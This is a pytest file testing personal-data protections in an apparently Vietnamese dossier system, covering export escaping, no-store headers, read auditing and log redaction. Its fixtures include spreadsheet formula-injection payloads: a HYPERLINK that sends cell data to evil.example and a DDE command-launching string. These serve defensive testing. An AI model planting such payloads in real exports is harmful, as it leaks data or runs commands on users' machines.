"""Personal data stays put: exported cells that look like formulas stay text; every page,
form, PDF and file that may show an applicant's details answers `no-store`; reading them is
audited; database errors reach the logs without a row's values."""

import io
import logging

import time_machine
from openpyxl import load_workbook
from sqlalchemy.exc import IntegrityError
from test_route_walk import ACCOUNTS, declared_roles

from conftest import count, local_time
from core.audit import READING_ACTIONS
from core.db.faults import fault_summary
from core.models import AuditEvent, Dossier
from core.reports.documents import tables_xlsx
from core.reports.periods import month_period
from core.reports.tables import Table
from core.spreadsheets import FORMULA_LEADS
from extensions import db
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
PERSONAL_BLUEPRINTS = ("dossiers", "privacy", "desk", "dashboard")


def test_a_formula_looking_name_is_exported_as_text(auth, client, demo):
    auth.login()
    with time_machine.travel(local_time(2026, 3, 2, 9, 0), tick=False):
        factories.dossier(name=FORMULA_NAME)
        factories.dossier(name="@SUM(1+1)*cmd|' /C calc'!A0", address="-2+3 Hà Đông")
    response = factories.register_file(client, "xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row if cell.value]
    risky = [cell for cell in cells if str(cell.value).startswith(FORMULA_LEADS)]
    assert any(FORMULA_NAME in str(cell.value) for cell in cells)
    assert risky, "the names were exported"
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_statistics_workbooks_write_text_as_text(app):
    table = Table(
        key="services",
        title="Thống kê",
        headers=["Dịch vụ", "Số lượt"],
        kinds=["text", "int"],
        rows=[["=1+1", 3], ["\tTab", 4], ["\rCR", 5], ["-x", -2]],
    )
    workbook = load_workbook(io.BytesIO(tables_xlsx([table], month_period(2026, 3))))
    values = {cell.value: cell for row in workbook.active.iter_rows(min_row=5) for cell in row}
    for text in ("=1+1", "\tTab", "\rCR", "-x"):
        assert values[text].data_type == "s" and values[text].quotePrefix
    assert values[-2].data_type == "n"  # numbers stay numbers


def personal_pages(app, code: str):
    """Every GET route of the blueprints that show personal data, with a real dossier."""
    for rule in sorted(app.url_map.iter_rules(), key=lambda rule: rule.rule):
        blueprint = rule.endpoint.rpartition(".")[0]
        if blueprint not in PERSONAL_BLUEPRINTS or "GET" not in rule.methods:
            continue
        values = {name: code if name == "code" else 1 for name in rule.arguments}
        yield rule, app.url_map.bind("localhost").build(rule.endpoint, values)


def test_every_page_with_personal_data_answers_no_store(app, demo, auth):
    app.config["WTF_CSRF_ENABLED"] = False
    dossier = factories.dossier()
    pages = list(personal_pages(app, dossier.code))
    assert len(pages) > 30
    problems = []
    for rule, path in pages:
        roles = declared_roles(app, rule) or ()
        username = next((ACCOUNTS[role] for role in roles if role in ACCOUNTS), None)
        client = app.test_client()
        if username:
            auth.login(username, client=client, form=False)
        response = client.get(path)
        if response.headers.get("Cache-Control") != "no-store":
            problems.append(
                f"{path} ({response.status_code}): {response.headers.get('Cache-Control')}"
            )
    lookup = app.test_client().get(factories.lookup_path(dossier.code))
    assert lookup.status_code == 200 and lookup.headers["Cache-Control"] == "no-store"
    assert not problems, "\n".join(problems)


def test_reading_personal_data_leaves_a_trace(app, demo, auth, client):
    dossier = factories.dossier()
    auth.login()
    assert client.get(f"/dossiers/{dossier.code}").status_code == 200
    assert client.get(f"/dossiers/{dossier.code}/print/receipt").status_code == 200
    assert client.get(f"/dossiers/{dossier.code}/print/receipt.pdf").status_code == 200
    assert factories.register_file(client, "xlsx").status_code == 200
    db.session.rollback()
    events = db.session.scalars(
        db.select(AuditEvent).where(AuditEvent.action.in_(READING_ACTIONS)).order_by(AuditEvent.id)
    ).all()
    user = factories.user("canbo1")
    assert [(event.action, event.user_id) for event in events] == [
        ("dossier.viewed", user.id),
        ("dossier.form_printed", user.id),
        ("dossier.form_printed", user.id),
        ("register.downloaded", user.id),
    ]
    assert events[0].subject_id == dossier.id and events[1].details == {"form": "receipt"}
    assert events[3].details == {"format": "xlsx", "from": "2026-01-01", "to": "2026-12-31"}
    assert events[3].subject_type == "exportjob"
    assert count(AuditEvent, action="dossier.viewed") == 1
    # A refused look-up of another dossier writes nothing.
    assert client.get("/dossiers/X-000000-0000").status_code == 404
    assert count(AuditEvent, action="dossier.viewed") == 1


def duplicate_of_a_dossier_missing_its_code(dossier):
    """An insert the database refuses, carrying the applicant's details."""
    row = db.session.execute(db.select(Dossier.__table__).filter_by(id=dossier.id)).mappings().one()
    values = {column: value for column, value in row.items() if column not in ("id", "code")}
    return db.insert(Dossier.__table__).values(**values, code=None)


def test_database_errors_reach_the_logs_without_a_rows_values(app, demo, caplog):
    dossier = factories.dossier(name="Hoàng Gia Bảo", id_number="001099887766")
    for logger in (app.logger, logging.getLogger("print-worker")):
        try:
            db.session.execute(duplicate_of_a_dossier_missing_its_code(dossier))
        except IntegrityError as error:
            db.session.rollback()
            logger.exception("could not save")
            logger.error("could not save: %s", error)
            logger.error("could not save: %s", error.orig)
        else:
            raise AssertionError("the insert was refused")
    logged = caplog.text
    saved = [line for line in logged.splitlines() if "could not save" in line]
    assert len(saved) == 6 and all("Error" in line or "Violation" in line for line in saved)
    assert "test_personal_data.py" in logged, "the traceback's frames stay"
    for value in ("Hoàng Gia Bảo", "001099887766", "Hà Đông", "0912"):
        assert value not in logged


def test_a_faults_summary_names_the_constraint(app, demo):
    dossier = factories.dossier()
    row = db.session.execute(db.select(Dossier.__table__).filter_by(id=dossier.id)).mappings().one()
    values = {column: value for column, value in row.items() if column != "id"}
    try:
        db.session.execute(db.insert(Dossier.__table__).values(**values))
    except IntegrityError as error:
        db.session.rollback()
        summary = fault_summary(error)
    assert summary.startswith("IntegrityError / ")
    assert "(constraint " in summary and "dossier" in summary.split("(constraint ")[1]
    assert dossier.code not in summary and "Nguyễn" not in summary
